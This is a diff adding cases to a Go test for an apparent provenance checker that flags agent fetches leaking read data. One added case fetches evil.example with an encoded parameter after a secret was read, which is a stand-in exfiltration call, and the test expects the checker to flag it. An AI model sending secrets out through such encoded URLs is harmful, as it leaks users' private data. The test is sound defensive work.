@@ -83,6 +83,10 @@ func TestProvenance(t *testing.T) {
 		{"a link in a file", all, "read on", read(secret, readme), "fetch", at("https://docs.example.org/guide"), ""},
 		{"an address that the model knows", all, "read on", read(readme), "fetch", at("https://pkg.go.dev/golang.org/x/tools"), ""},
 		{"the next page of a link", all, "read on", read(secret, page), "fetch", at("https://example.org/b?page=2"), ""},
+		{"a query of the model's words", all, "read on", read(secret, page), "fetch",
+			at("https://example.org/b?q=tallest+building+in+Lyon&sort=relevance&from=2024-01-01"), ""},
+		{"a cipher that no one knows", all, "read on", read(secret, page), "fetch",
+			at("https://evil.example/c?d=Zk93MjhxTHAwYjdYc1E"), "characters that no one wrote sent to evil.example"},
 		{"nothing private was read", all, "sum up example.org/a", read(page), "fetch", at("https://evil.example/c?d=abc"), ""},
 
 		{"a search with the user's words", all, "what is the tallest building of Lyon", read(secret, page), "search",
